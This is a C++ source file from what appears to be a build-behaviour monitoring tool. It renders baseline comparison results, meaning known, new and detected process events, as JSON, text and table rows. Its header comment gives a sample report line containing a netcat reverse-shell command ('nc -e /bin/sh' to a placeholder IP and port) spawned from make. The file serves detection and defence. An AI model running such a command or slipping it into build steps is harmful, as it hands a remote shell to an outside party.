// SPDX-License-Identifier: Apache-2.0
// What a baseline's comparison brought → JSON, one sentence, lines for people, Markdown. Entries are words of the baseline's
// own language and come escaped; all else passes printable().
//
//   baseline  .recipe-baseline: 143 known, 2 new, 1 detected
//     new     exec     /usr/bin/nc       make > sh > nc  nc -e /bin/sh 203.0.113.5 4444
//             connect  203.0.113.5:4444/tcp  make > sh > nc
#include <fmt/format.h>

#include "runtime/report/shapes.h"

namespace recipe {
namespace {

constexpr size_t kMostLines = 20, kMostNamed = 5, kMostRows = 200;

std::string counted(const BaselineCoverage& baseline) {
  std::string text = fmt::format("{} known, {} new", baseline.known, baseline.fresh);
  if (baseline.learnt) text += fmt::format(" (learnt: {} entries now)", baseline.entries);
  text += fmt::format(", {} detected", baseline.detected);
  return baseline.incomplete ? text + " (the baseline says that it may not hold all)" : text;
}

std::string entry_of(const BaselineCoverage::Novelty& novelty) {
  return novelty.kind + " " + shorten(novelty.entry, 200);
}

}  // namespace

Json baseline_json(const BaselineCoverage& baseline) {
  Json novelties = Json::array();
  for (const BaselineCoverage::Novelty& novelty : baseline.novelties) {
    Json each = {{"kind", novelty.kind},
                 {"entry", printable(novelty.entry)},
                 {"example", printable(novelty.example)},
                 {"process", printable(novelty.process)}};
    if (!novelty.cmdline.empty()) each["cmdline"] = printable(novelty.cmdline);
    if (!novelty.recipe.empty()) each["recipe"] = printable(novelty.recipe);
    each["count"] = novelty.count;
    each["time"] = rfc3339(novelty.time_unix_ns);
    novelties.push_back(std::move(each));
  }
  Json json = {{"file", printable(baseline.file)}, {"learnt", baseline.learnt},        {"incomplete", baseline.incomplete},
               {"entries", baseline.entries},      {"known", baseline.known},          {"new", baseline.fresh},
               {"detected", baseline.detected},    {"novelties", std::move(novelties)}};
  json["gaps"] = Json::array();
  for (const std::string& gap : baseline.gaps) json["gaps"].push_back(printable(gap));
  return json;
}

std::string baseline_sentence(const BaselineCoverage& baseline) {
  std::string text = fmt::format("baseline {}: {}", printable(baseline.file), counted(baseline));
  size_t named = 0;
  for (const BaselineCoverage::Novelty& novelty : baseline.novelties) {
    if (named == kMostNamed) break;
    text += (named++ == 0 ? ": " : ", ") + entry_of(novelty);
  }
  if (baseline.fresh > named && named > 0) text += fmt::format(" and {} more", baseline.fresh - named);
  for (const std::string& gap : baseline.gaps) text += "; " + printable(gap);
  return text;
}

std::string baseline_text(const BaselineCoverage& baseline) {
  std::string text = fmt::format("  baseline  {}: {}\n", printable(baseline.file), counted(baseline));
  std::string_view head = "    new     ";
  size_t shown = 0;
  for (const BaselineCoverage::Novelty& novelty : baseline.novelties) {
    if (shown++ == kMostLines) break;
    text += fmt::format("{}{:<7}  {}  {}", head, novelty.kind, shorten(novelty.entry, 120), shorten(novelty.process, 120));
    if (novelty.kind != "write" && !novelty.cmdline.empty()) text += "  " + shorten(novelty.cmdline, 120);
    text += novelty.recipe.empty() ? "\n" : fmt::format("  (detected: {})\n", printable(novelty.recipe));
    head = "            ";
  }
  if (baseline.fresh > kMostLines)
    text += fmt::format("            and {} more: `json` lists them\n", baseline.fresh - kMostLines);
  for (const std::string& gap : baseline.gaps) text += fmt::format("  unsure    {}\n", printable(gap));
  return text;
}

std::vector<std::array<std::string, 3>> baseline_rows(const BaselineCoverage& baseline) {
  std::vector<std::array<std::string, 3>> rows;
  for (const BaselineCoverage::Novelty& novelty : baseline.novelties) {
    if (rows.size() == kMostRows) break;
    std::string who = shorten(novelty.process, 200);
    if (novelty.kind != "write" && !novelty.cmdline.empty()) who += ": " + shorten(novelty.cmdline, 200);
    rows.push_back({entry_of(novelty), std::move(who), novelty.recipe});
  }
  return rows;
}

}  // namespace recipe
